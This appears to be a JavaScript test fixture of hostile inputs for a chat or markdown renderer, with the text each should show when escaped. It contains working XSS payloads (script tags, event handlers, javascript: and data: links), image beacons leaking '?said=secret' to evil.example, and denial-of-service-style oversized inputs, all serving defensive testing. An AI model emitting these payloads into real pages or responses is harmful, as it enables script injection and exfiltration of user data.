// What a hostile model might write, in the pieces that it comes in, and what of it must be seen as text.

const repeat = (text, count) => text.repeat(count);
const inPieces = (text, count) => {
    const length = Math.ceil(text.length / count);
    return Array.from({ length: count }, (_, i) => text.slice(i * length, (i + 1) * length));
};

// A line of a megabyte, in a thousand pieces.
export const LONG = inPieces(repeat("m", 1_000_000), 1_000);

export const HOSTILE = {
    scripts: {
        pieces: [
            "<scr",
            "ipt>hacked = 1</script><img src=x onerror=\"hacked = 1\"><svg onload='hacked=1'><iframe srcdoc='<script>parent.hacked=1</script>'></iframe><style>*{display:none}</style><base href=//evil.example><meta http-equiv=refresh content=0>",
        ],
        shows: ["<script>hacked = 1</script>", "<img src=x", "<svg onload", "<style>"],
    },
    links: {
        pieces: [
            "[a](javascript:hacked=1) [b](JAVASCRIPT:hacked=1) <javascript:hacked=1> [c](data:text/html,<script>hacked=1</script>) [d](vbscript:x) [bank](https://evil.example/x) [e](java\u0000script:hacked=1) [f](&#106;avascript:hacked=1)",
        ],
        shows: ["[a](javascript:hacked=1)", "[c](data:text/html", "bank (evil.example)"],
    },
    beacons: {
        pieces: [
            "![x](https://evil.example/beacon.png?said=secret)\n\n![x](http://127.0.0.1:9/y.png)\n\n[![z](https://evil.example/z.png)](https://evil.example)\n\n<img src=https://evil.example/w.png>\n\n![r][ref]\n\n[ref]: https://evil.example/ref.png",
        ],
        shows: ["image: x", "<img src="],
    },
    markdown: {
        pieces: [
            '# <b onclick=hacked=1>x</b>\n\n|<i>a</i>|b|\n|-|-|\n|<script>hacked=1</script>|`<u>`|\n\n```html\n<script>hacked=1</script>\n```\n\n```"><img src=x onerror=hacked=1>\nx\n```',
        ],
        shows: ["<b onclick=hacked=1>", "<i>a</i>", "<script>hacked=1</script>", "<u>"],
    },
    line: { pieces: [repeat("x", 1_000_000)], shows: [repeat("x", 1_000_000)] },
    lineInPieces: { pieces: LONG, shows: [LONG.join("")] },
    sentence: { pieces: inPieces(repeat("a <b> *c* `d` [e](f) ", 50_000), 200) },
    quotes: { pieces: [repeat(">", 50_000), "\n\n", repeat(`${repeat("> ", 500)}x\n`, 100)] },
    lists: { pieces: inPieces(repeat("- a\n", 100_000), 100) },
    nested: { pieces: [Array.from({ length: 3_000 }, (_, i) => `${repeat(" ", 2 * Math.min(i, 200))}- a`).join("\n")] },
    emphasis: { pieces: [repeat("*a **b ", 2_000), repeat("b** a* ", 2_000)] },
    brackets: { pieces: [repeat("![[", 6_000), repeat("](http://evil.example)", 800)] },
    tables: { pieces: [`${repeat("|a", 39)}\n${repeat("|-", 39)}\n`, ...inPieces(repeat(`${repeat("|`x`", 39)}\n`, 3_000), 50)] },
    code: { pieces: ["```\n", ...inPieces(repeat("let x = 1;\n", 50_000), 100)] },
    breaks: { pieces: inPieces(repeat("a\n", 200_000), 50) },
    marks: { pieces: [repeat("\u202e\u0301\u200b\ufeff\ud83e\udd80", 20_000), "\ud800 alone"] },
};
